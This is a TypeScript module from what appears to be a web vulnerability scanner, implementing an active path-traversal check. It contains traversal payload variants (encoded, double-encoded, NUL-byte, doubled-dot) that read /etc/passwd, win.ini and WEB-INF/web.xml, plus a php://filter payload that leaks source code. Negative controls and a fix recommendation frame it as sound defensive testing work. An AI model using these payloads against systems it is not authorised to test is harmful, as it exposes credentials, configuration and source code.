import type { WebResponse } from '../../../scanning/web/message/web-message.ts';
import type { ActiveCheck, ActiveSighting, InjectionPoint, Probe } from '../active-check.ts';
import { deploymentDescriptor, isOfServlets } from '../answers/deployment-descriptor.ts';
import { includedProgram } from '../answers/included-program.ts';
import { encodedProgramOf, shownProgram } from '../answers/program-source.ts';
import { systemFile } from '../answers/system-file.ts';
import { systemFolder } from '../answers/system-folder.ts';
import { printableLine } from '../content/evidence.ts';
import { causeOf, pointInWords, takesValue } from '../probing/point-words.ts';

interface Way {
  /** Written as it stands in the address. `up` is how many folders it goes up. */
  readonly value: (file: string, up: number, own: string) => string;
  readonly file: 'etc/passwd' | 'windows/win.ini';
  readonly for: 'query' | 'path';
  /** True for a value of the site with which it may come to something; for each where it does not say. */
  readonly isFor?: (own: string) => boolean;
}

const encoded = encodeURIComponent;
const hasEnding = /\.[a-z0-9]{1,5}$/i;
const ending = (own: string) => hasEnding.exec(own)?.[0] ?? '.png';

const ways: readonly Way[] = [
  { for: 'query', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`/${file}`) },
  { for: 'query', file: 'etc/passwd', value: (file) => encoded(`file:///${file}`) },
  {
    for: 'query',
    file: 'etc/passwd',
    // With the slash that the program may need behind its own folder.
    value: (file, up, own) => encoded(`${own.startsWith('/') ? '/' : ''}${'....//'.repeat(up)}${file}`),
  },
  {
    for: 'query',
    file: 'etc/passwd',
    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
  },
  {
    for: 'query',
    file: 'etc/passwd',
    value: (file, up, own) => `${encoded(`${'../'.repeat(up)}${file}`)}%00${encoded(ending(own))}`,
  },
  {
    for: 'query',
    file: 'etc/passwd',
    // Behind the folder of the site's own file, which a check may look for.
    value: (file, up, own) => encoded(`${own.slice(0, own.lastIndexOf('/') + 1) || './'}${'../'.repeat(up)}${file}`),
  },
  {
    for: 'query',
    file: 'etc/passwd',
    // For a program that takes the ending off, which every name has.
    value: (file, up, own) => encoded(`${'../'.repeat(up)}${file}${ending(own)}`),
    isFor: (own) => hasEnding.test(own),
  },
  {
    for: 'query',
    file: 'windows/win.ini',
    value: (file, up) => encoded(`${'..\\'.repeat(up)}${file.replaceAll('/', '\\')}`),
  },
  { for: 'query', file: 'windows/win.ini', value: (file) => encoded(`C:/${file}`) },
  { for: 'path', file: 'etc/passwd', value: (file, up) => encoded(`${'../'.repeat(up)}${file}`) },
  { for: 'path', file: 'etc/passwd', value: (file, up) => `${'%2e%2e%2f'.repeat(up)}${file}` },
  {
    for: 'path',
    file: 'etc/passwd',
    value: (file, up) => encoded(encoded(`${'../'.repeat(up)}${file}`).replaceAll('.', '%2e')),
  },
  { for: 'path', file: 'windows/win.ini', value: (file, up) => `${'..%5c'.repeat(up)}${file.replaceAll('/', '%5c')}` },
];

/** A sighting of what a value brought up. */
function sightingOf(
  point: InjectionPoint,
  value: string,
  shown: string,
  of: string,
  response: WebResponse,
): ActiveSighting {
  return {
    cause: causeOf(point),
    description: `${pointInWords(point)} is used as a file path without restriction. The response contains ${of}.`,
    evidence: `sent: ${value}\nin the response: ${printableLine(shown, 100)}`,
    response,
  };
}

/** A file that every system has. */
async function bySystemFile({ point, original, send, marker }: Probe): Promise<ActiveSighting | undefined> {
  if (systemFile(original) !== undefined) return undefined;
  for (const way of ways) {
    if (way.for !== (point.kind === 'path' ? 'path' : 'query') || way.isFor?.(point.value) === false) continue;
    if (systemFile(await send(way.value(way.file, 9, point.value))) === undefined) continue;
    // The negative control: a file that does not exist shows nothing of the kind.
    const control = await send(way.value(`${way.file.split('/')[0]}/${marker()}`, 9, point.value));
    const value = way.value(way.file, 12, point.value);
    const response = await send(value);
    const shown = systemFile(response);
    if (systemFile(control) !== undefined || shown === undefined) continue;
    return sightingOf(point, value, shown, 'a system file from outside the site', response);
  }
  return undefined;
}

/** The files of a folder that every system has, where the site's own value is a folder. */
async function byFolder({ point, original, send, marker }: Probe): Promise<ActiveSighting | undefined> {
  if (point.kind === 'path' || !/^[^:?#]*\/$/.test(point.value) || systemFolder(original) !== undefined)
    return undefined;
  for (const root of ['../'.repeat(9), '/']) {
    const value = encoded(`${root}etc/`);
    if (systemFolder(await send(value)) === undefined) continue;
    // The negative control: a folder that does not exist has no such files.
    const control = await send(encoded(`${root}${marker()}/`));
    const response = await send(value);
    const shown = systemFolder(response);
    if (systemFolder(control) !== undefined || shown === undefined) continue;
    return sightingOf(point, value, shown, 'the list of a system folder from outside the site', response);
  }
  return undefined;
}

/** The folders above a page, as many as a servlet container lets a path go up. */
const foldersAbove = ({ pathname }: URL) => pathname.split('/').length - 2;

/**
 * What of a web application in Java only the application itself reads: a container opens paths within the application
 * alone, and none that leaves it. From its first folder, from the page's, and with doubled dots.
 */
async function byDescriptor({ point, original, send, marker }: Probe): Promise<ActiveSighting | undefined> {
  const mayName = hasEnding.test(point.value) || isOfServlets(point.url, original);
  if (point.kind === 'path' || !mayName || deploymentDescriptor(original) !== undefined) return undefined;
  const up = foldersAbove(point.url);
  const ways = ['/', ...(up > 0 ? [`/${'../'.repeat(up)}`, `/${'....//'.repeat(up)}`] : [])];
  for (const way of ways) {
    const value = encoded(`${way}WEB-INF/web.xml`);
    if (deploymentDescriptor(await send(value)) === undefined) continue;
    // The negative control: a file that does not exist.
    const control = await send(encoded(`${way}WEB-INF/${marker()}.xml`));
    const response = await send(value);
    const shown = deploymentDescriptor(response);
    if (deploymentDescriptor(control) !== undefined || shown === undefined) continue;
    return sightingOf(
      point,
      value,
      shown,
      'the deployment descriptor of the web application, which no server hands out',
      response,
    );
  }
  return undefined;
}

/** The name of a file as programs have it in a value: not a number, not an address. */
const fileName = /^(?!\d+$)[\w-][\w./-]{0,99}$/;

/** What a program puts behind the value, a file of the system does not end in; the program's own file does. */
async function byFilter({ point, original, send, marker }: Probe): Promise<ActiveSighting | undefined> {
  if (!fileName.test(point.value) || encodedProgramOf(original) !== undefined) return undefined;
  const written = (name: string) => encoded(`php://filter/convert.base64-encode/resource=${name}`);
  const value = written(point.value);
  if (encodedProgramOf(await send(value)) === undefined) return undefined;
  const control = await send(written(marker()));
  const response = await send(value);
  const shown = encodedProgramOf(response);
  if (encodedProgramOf(control) !== undefined || shown === undefined) return undefined;
  return sightingOf(point, value, shown, 'the source code of a program, in base64', response);
}

/** A page that shows programs shows one of another folder, which it does not show by its name alone. */
async function byProgramAbove({ point, original, send, marker }: Probe): Promise<ActiveSighting | undefined> {
  const own = shownProgram(original);
  if (own === undefined || point.kind === 'path') return undefined;
  const suffix = /\.[a-z0-9]{1,5}$/i.exec(point.value)?.[0] ?? '';
  const written = (up: number, name: string) => encoded(`${'../'.repeat(up)}${name}${suffix}`);
  const known = [own, shownProgram(await send(written(0, 'index')))];
  for (let up = 1; up <= 5; up++) {
    const value = written(up, 'index');
    const seen = shownProgram(await send(value));
    if (seen === undefined || known.includes(seen)) continue;
    const control = await send(written(up, marker()));
    const response = await send(value);
    if (shownProgram(control) !== undefined || shownProgram(response) !== seen) continue;
    return sightingOf(point, value, seen, 'the source code of a program in another folder', response);
  }
  return undefined;
}

/** In the evidence of what another program of the site has shown. */
const answeredAlike = 'both are answered alike';

/** Where a folder stands before the value, too: what is there gives another answer than what is not. */
async function byOtherProgram(probe: Probe): Promise<ActiveSighting | undefined> {
  const { point, otherProgram } = probe;
  if (otherProgram === undefined || point.kind === 'path' || /^\d+$/.test(point.value)) return undefined;
  const found = await includedProgram(probe, otherProgram);
  if (found === undefined) return undefined;
  return {
    cause: causeOf(point),
    confidence: 'firm',
    description: `${pointInWords(point)} is used as a part of a file path without restriction. The paths of an existing program in another folder get a different response than paths of programs that do not exist, however they are written.`,
    evidence: `sent: ${found.there}\nsent: ${found.alsoThere}\n${answeredAlike}: ${found.difference} for\nsent: ${found.notThere}`,
    response: found.response,
  };
}

/**
 * Path traversal. A value names a file of the server's system, and its content is returned: the lines of `/etc/passwd`
 * (root with number 0 and another user) or of `win.ini`. Asked plainly, encoded once and twice, with doubled dots and
 * with a NUL before the ending; with the ending of the site's own value, which the program may take off. Where that value
 * is a folder, the names of the files of `/etc`. Of a program in Java, or where the value is the name of a file, the
 * application's own `WEB-INF/web.xml`, too. Where the
 * program puts an ending behind the value: its own source code, through PHP's filter for base64, or, on a page that shows source code, that of the start page of a folder above. Where a folder stands before it, too: the path of another program of the
 * site gives another answer than a path where nothing is, each written in two ways (firm). Silent where the same page
 * shows them for a file that does not exist. Certain.
 */
export const pathTraversal: ActiveCheck = {
  id: 'path-traversal',
  title: 'Path traversal',
  score: 8,
  confidence: 'certain',
  cwe: [22],
  references: [
    'https://owasp.org/www-community/attacks/Path_Traversal',
    'https://cwe.mitre.org/data/definitions/22.html',
  ],
  risk: 'An unauthenticated attacker can read every file that the application can read: source code, configuration with passwords and keys, and data of other users.',
  recommendation:
    'Select files by a key from a list, not by a name from the request. Where a name is required, resolve it to a full path first and reject it unless it is inside the intended folder. Run the application as a user that can read only what it needs.',
  needsOtherPages: (evidence) => evidence.includes(answeredAlike),
  appliesTo: (point) => takesValue(point) || point.kind === 'cookie',
  probe: async (probe) =>
    (await bySystemFile(probe)) ??
    (await byFolder(probe)) ??
    (await byDescriptor(probe)) ??
    (await byFilter(probe)) ??
    (await byProgramAbove(probe)) ??
    (await byOtherProgram(probe)),
};
